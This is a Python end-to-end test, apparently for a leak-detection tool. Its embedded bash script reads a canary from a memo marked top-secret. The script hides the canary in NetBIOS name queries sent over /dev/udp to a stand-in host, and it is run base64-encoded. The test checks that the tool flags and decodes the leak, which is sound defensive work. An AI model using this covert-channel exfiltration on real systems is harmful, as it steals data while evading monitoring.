# SPDX-License-Identifier: Apache-2.0
"""A canary said to neighbours, half by half in NetBIOS names, is a leak: found where no socket need be listening."""

import base64

from e2e import check, check_equal, run_json, scenario

SAY = r"""
canary=$(tr -dc 'a-z0-9 \n' < /home/alex/Documents/* | grep -oE '[a-z2-7]{26}' | head -n 1)
test ${#canary} = 26 || exit 1
say() {
  name=$(printf '%-15s' "$1"); letters=
  for i in $(seq 0 14); do
    code=$(printf '%d' "'${name:$i:1}")
    letters=$letters$(printf "\\\\x%x\\\\x%x" $((65 + code / 16)) $((65 + code % 16)))
  done
  printf "\x00\x07\x01\x10\x00\x01\x00\x00\x00\x00\x00\x00\x20${letters}AA\x00\x00\x20\x00\x01" > /dev/udp/203.0.113.5/137
}
say ${canary:0:13}
say ${canary:13}
"""

code, verdict, folder = run_json(scenario("""about: A canary leaves in names asked of neighbours.
documents:
  memo: {format: txt, marking: us/top-secret, to: /home/alex/Documents}
steps:
  - plant: memo
  - exec: bash -c "$(echo %s | base64 -d)"
""" % base64.b64encode(SAY.encode()).decode()), "clamav")
for step in verdict["steps"]:
    check(step["done"], f"step {step['index'] + 1} ({step['text']}): {step['detail']}")
check_equal(verdict["verdict"], "leak", f"verdict (reasons: {verdict['reasons']})")
said = [f for f in verdict["findings"] if "netbios-ns" in f["channel"]]
check(said, f"a finding in NetBIOS names, of {[f['channel'] for f in verdict['findings']]}")
check(any(step["decoder"] == "netbios name" for step in said[0]["decode"]), f"its decode chain: {said[0]['decode']}")
check(said[0]["document"].startswith("memo"), f"whose canary it is: {said[0]['document']}")
told = next(row for row in verdict["destinations"] if row["protocol"] == "netbios-ns")
check_equal(told["opaque"], 0, "opaque bytes of NetBIOS names")
print("a canary in NetBIOS names: found, and every byte around it understood")
